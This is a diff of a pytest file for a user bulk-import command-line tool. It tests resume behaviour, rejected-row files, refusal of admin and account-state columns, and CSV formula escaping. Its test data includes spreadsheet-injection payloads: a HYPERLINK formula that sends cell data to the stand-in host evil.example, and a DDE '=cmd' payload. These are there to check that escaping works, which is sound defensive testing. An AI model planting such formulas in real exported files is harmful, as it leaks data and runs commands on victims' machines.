@@ -7,6 +7,7 @@ import signal
 import subprocess
 import sys
 import time
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -16,10 +17,11 @@ from sqlalchemy import event, func, select
 from typer.testing import CliRunner
 
 from tests.conftest import new_user
-from userbase.bulk_import import BulkImport, Progress
+from userbase.bulk_import import BulkImport, Candidate, Progress, insert_candidates
 from userbase.cli import app
+from userbase.csv_cells import escape_cell
 from userbase.database import SessionLocal, engine
-from userbase.import_rows import read_records
+from userbase.import_rows import ImportRow, read_records
 from userbase.models import User
 from userbase.security import hash_password, is_usable_password_hash, verify_password
 
@@ -237,19 +239,21 @@ def test_malformed_records_are_rejected_rows(tmp_path: Path) -> None:
     jsonl.write_bytes(
         b'{"username": "quin"\n'
         b"[1, 2]\n"
-        b'{"username": "rae", "email": "r@example.com", "is_admin": true}\n'
+        b'{"username": "rae", "email": "r@example.com", "role": "admin"}\n'
+        b'{"username": "sid", "email": "s@example.com", "is_admin": true}\n'
     )
     run_import(jsonl)
     reasons = {r["line"]: r["reason"] for r in rejected_rows(tmp_path / "users.jsonl.rejected.csv")}
     assert reasons == {
         "1": "not valid JSON",
         "2": "not a JSON object",
-        "3": "is_admin: Extra inputs are not permitted",
+        "3": "role: Extra inputs are not permitted",
+        "4": "is_admin: imported only with --trust-account-state",
     }
 
 
 @pytest.mark.parametrize(
-    "header", ["username,email,is_admin", "email,display_name", "username,email,email", ""]
+    "header", ["username,email,role", "email,display_name", "username,email,email", ""]
 )
 def test_a_csv_header_that_does_not_fit_stops_before_importing(tmp_path: Path, header: str) -> None:
     file = write(tmp_path / "users.csv", f"{header}\nsam,sam@example.com,x\n")
@@ -281,20 +285,27 @@ def test_skip_resumes_and_appends_to_the_rejected_file(tmp_path: Path) -> None:
     run_import(file, "--batch-size", "2")
     assert [r["line"] for r in rejected_rows(rejected)] == ["3", "5"]
     rejected.write_text("line,reason\n7,kept from before\n")
-    run_import(file, "--skip", "2")
+    result = run_import(file, "--skip", "2")
 
     assert set(users()) == {"val", "wes"}
-    # Appended after what was there; "wes" (line 4) was imported by the first run.
-    assert [r["line"] for r in rejected_rows(rejected)] == ["7", "4", "5"]
+    # Appended after what was there; "wes" (line 4) was imported by the first run, as it is.
+    assert [r["line"] for r in rejected_rows(rejected)] == ["7", "5"]
+    assert "imported 0 rows, rejected 1" in result.output
+    assert "already imported 1" in result.output
 
 
-def test_a_new_import_removes_the_rejected_file_of_an_earlier_one(tmp_path: Path) -> None:
+def test_a_new_import_keeps_the_rejected_file_of_an_earlier_one(tmp_path: Path) -> None:
     file = write(tmp_path / "users.csv", "username,email\nx,x@example.com\n")
     run_import(file)
-    assert (tmp_path / "users.csv.rejected.csv").exists()
-    write(file, "username,email\nzoe,zoe@example.com\n")
-    run_import(file)
-    assert not (tmp_path / "users.csv.rejected.csv").exists()
+    first = (tmp_path / "users.csv.rejected.csv").read_bytes()
+    write(file, "username,email\nzoe,zoe@example.com\ny,y@example.com\n")
+
+    result = run_import(file)
+
+    assert (tmp_path / "users.csv.rejected.csv").read_bytes() == first
+    second = tmp_path / "users.csv.rejected-2.csv"
+    assert f"see {second}" in result.output
+    assert [r["line"] for r in rejected_rows(second)] == ["3"]
 
 
 def test_a_file_broken_halfway_keeps_the_finished_batches(tmp_path: Path) -> None:
@@ -309,7 +320,8 @@ def test_a_file_broken_halfway_keeps_the_finished_batches(tmp_path: Path) -> Non
     assert "is not UTF-8" in result.output
     committed = len(users())
     assert committed >= 3000
-    assert f"--skip {committed}" in result.output
+    assert f"stopped after record {committed:,}" in result.output
+    assert f"userbase import {file} --resume" in result.output
 
 
 def test_progress_is_reported_after_every_batch(tmp_path: Path) -> None:
@@ -377,13 +389,14 @@ def test_ctrl_c_keeps_committed_batches_and_prints_where_to_resume(
     _, stderr = process.communicate(timeout=60)
 
     assert process.returncode == 130, stderr
-    resume_line = next(line for line in stderr.splitlines() if "--skip" in line)
-    skip = int(resume_line.rsplit("--skip", 1)[1])
-    assert 0 < skip < total
-    assert count_users() == skip
+    assert f"userbase import {file} --resume" in stderr
+    stopped_line = next(line for line in stderr.splitlines() if "stopped after record" in line)
+    committed = int(stopped_line.split("record ", 1)[1].split(":")[0].replace(",", ""))
+    assert 0 < committed < total
+    assert count_users() == committed
 
     resumed = subprocess.run(
-        [*command, "--skip", str(skip)], env=env, capture_output=True, text=True, timeout=120
+        [*command, "--resume"], env=env, capture_output=True, text=True, timeout=120
     )
     assert resumed.returncode == 0, resumed.stderr
     assert count_users() == total
@@ -424,3 +437,185 @@ def test_imported_foreign_hashes_sign_in_and_become_argon2id(tmp_path: Path) -> 
             assert sign_in(client, name, "wrong password!").status_code == 401
             assert sign_in(client, name, OLD_PASSWORD).status_code == 200
     assert all(u.password_hash.startswith("$argon2id$") for u in users().values())
+
+
+def test_account_state_columns_are_refused_without_trust_account_state(tmp_path: Path) -> None:
+    file = write(
+        tmp_path / "users.csv",
+        "username,email,is_admin,created_at\nmal,mal@example.com,true,2020-01-01T00:00:00+00:00\n",
+    )
+
+    result = run_import(file)
+
+    assert result.exit_code == 1
+    assert "is_admin,created_at" in result.output
+    assert "--trust-account-state" in result.output
+    assert users() == {}
+
+
+def test_trusted_account_state_is_imported_as_given(tmp_path: Path, argon2_hash: str) -> None:
+    file = write(
+        tmp_path / "users.csv",
+        "username,email,password_hash,is_admin,is_active,email_verified,created_at\n"
+        f'boss,boss@example.com,"{argon2_hash}",true,true,true,2019-05-06T09:08:09.123456+02:00\n'
+        "gone,gone@example.com,,false,false,false,2021-01-02T03:04:05.000001+00:00\n"
+        "plain,plain@example.com,,,,,\n",
+    )
+
+    result = run_import(file, "--trust-account-state")
+
+    assert "imported 3 rows, rejected 0" in result.output, result.output
+    imported = users()
+    assert imported["boss"].is_admin
+    assert imported["boss"].email_verified
+    assert imported["boss"].created_at == datetime(2019, 5, 6, 7, 8, 9, 123456, UTC)
+    assert not imported["gone"].is_active
+    assert imported["gone"].created_at == datetime(2021, 1, 2, 3, 4, 5, 1, UTC)
+    plain = imported["plain"]
+    assert (plain.is_admin, plain.is_active, plain.email_verified) == (False, True, False)
+    assert datetime.now(UTC) - plain.created_at < timedelta(minutes=1)
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "reason"),
+    [
+        ("is_admin", "maybe", "is_admin: Input should be a valid boolean"),
+        ("created_at", "2020-01-01T00:00:00", "created_at: Input should have timezone info"),
+        ("created_at", "2999-01-01T00:00:00+00:00", "created_at: must be between 1970-01-01"),
+        ("created_at", "1960-01-01T00:00:00+00:00", "created_at: must be between 1970-01-01"),
+    ],
+)
+def test_trusted_account_state_is_validated(
+    tmp_path: Path, column: str, value: str, reason: str
+) -> None:
+    file = write(tmp_path / "users.csv", f"username,email,{column}\nodd,odd@example.com,{value}\n")
+
+    run_import(file, "--trust-account-state")
+
+    [rejected] = rejected_rows(tmp_path / "users.csv.rejected.csv")
+    assert rejected["reason"].startswith(reason)
+    assert rejected[column] == value
+    assert users() == {}
+
+
+def test_importing_the_same_file_again_counts_its_rows_as_already_imported(
+    tmp_path: Path, argon2_hash: str
+) -> None:
+    file = write(
+        tmp_path / "users.csv",
+        HEADER
+        + f'ann,ann@example.com,Ann,"{argon2_hash}"\n'
+        + "ben,ben@example.com,,\n"
+        + "cal,cal@example.com,Cal,\n",
+    )
+    run_import(file, "--batch-size", "2")
+    with engine.begin() as connection:  # since then, someone else took "cal"'s name
+        connection.execute(
+            User.__table__.update().where(User.username == "cal").values(display_name="Other")
+        )
+    write(file, file.read_text() + "dan,dan@example.com,,\n")
+
+    result = run_import(file, "--batch-size", "2")
+
+    assert "imported 1 rows, rejected 1" in result.output
+    assert "already imported 2" in result.output
+    [rejected] = rejected_rows(tmp_path / "users.csv.rejected.csv")
+    assert (rejected["line"], rejected["reason"]) == (
+        "4",
+        "A user with this username already exists.",
+    )
+    assert set(users()) == {"ann", "ben", "cal", "dan"}
+
+
+def test_a_row_that_differs_in_its_hash_or_letter_case_is_a_clash_not_the_same_user(
+    tmp_path: Path, argon2_hash: str
+) -> None:
+    run_import(write(tmp_path / "first.csv", "username,email\neva,eva@example.com\n"))
+    file = write(
+        tmp_path / "users.csv",
+        HEADER
+        + f'eva,eva@example.com,,"{argon2_hash}"\n'
+        + "EVA,eva@example.com,,\n"
+        + "eva,EVA@example.com,,\n",
+    )
+
+    result = run_import(file, "--batch-size", "1")
+
+    assert "imported 0 rows, rejected 3" in result.output
+    assert "already imported 0" in result.output
+    assert is_usable_password_hash(users()["eva"].password_hash) is False
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "'quoted",
+    "'=already quoted",
+    "''",
+    "plain 'inside",
+]
+
+
+def test_escaped_csv_cells_are_read_back_exactly(tmp_path: Path) -> None:
+    lines = [
+        f"form{n},form{n}@example.com,{csv_cell(escape_cell(name))}"
+        for n, name in enumerate(FORMULAS)
+    ]
+    file = write(tmp_path / "users.csv", "username,email,display_name\n" + "\n".join(lines) + "\n")
+
+    result = run_import(file)
+
+    assert f"imported {len(FORMULAS)} rows, rejected 0" in result.output
+    imported = users()
+    assert [imported[f"form{n}"].display_name for n in range(len(FORMULAS))] == FORMULAS
+
+
+def test_raw_csv_takes_cells_as_written(tmp_path: Path) -> None:
+    file = write(tmp_path / "users.csv", "username,email,display_name\nrow,row@example.com,'=1+1\n")
+
+    run_import(file, "--raw-csv")
+
+    assert users()["row"].display_name == "'=1+1"
+
+
+def test_the_rejected_file_escapes_formulas(tmp_path: Path) -> None:
+    file = tmp_path / "users.jsonl"
+    file.write_bytes(orjson.dumps({"username": "=cmd|' /C calc'!A0", "email": "-x@example.com"}))
+
+    run_import(file)
+
+    text = (tmp_path / "users.jsonl.rejected.csv").read_text()
+    assert "\"'=cmd|' /C calc'!A0\",\"'-x@example.com\"" in text
+    [rejected] = rejected_rows(tmp_path / "users.jsonl.rejected.csv")
+    assert rejected["username"] == "'=cmd|' /C calc'!A0"
+
+
+def csv_cell(value: str) -> str:
+    out = io.StringIO()
+    csv.writer(out, lineterminator="").writerow([value])
+    return out.getvalue()
+
+
+def test_a_clash_the_batch_lookup_misses_is_still_sorted_out_row_by_row(tmp_path: Path) -> None:
+    """The slow path: keys that Python folded differently from the database (made up here)."""
+    run_import(write(tmp_path / "first.csv", "username,email\nkay,kay@example.com\n"))
+    rows = {
+        2: ImportRow(username="kay", email="kay@example.com"),  # as imported
+        3: ImportRow(username="KAY", email="other@example.com"),  # the name is taken
+        4: ImportRow(username="lou", email="lou@example.com"),  # new
+    }
+    candidates = [
+        Candidate(line, row, {}, f"not-the-key-{line}", f"not-the-key-{line}")
+        for line, row in rows.items()
+    ]
+
+    with SessionLocal.begin() as session:
+        outcome = insert_candidates(session, candidates)
+
+    assert outcome.already_imported == 1
+    assert [(r.line, r.reason) for r in outcome.rejected] == [
+        (3, "A user with this username already exists.")
+    ]
+    assert set(users()) == {"kay", "lou"}
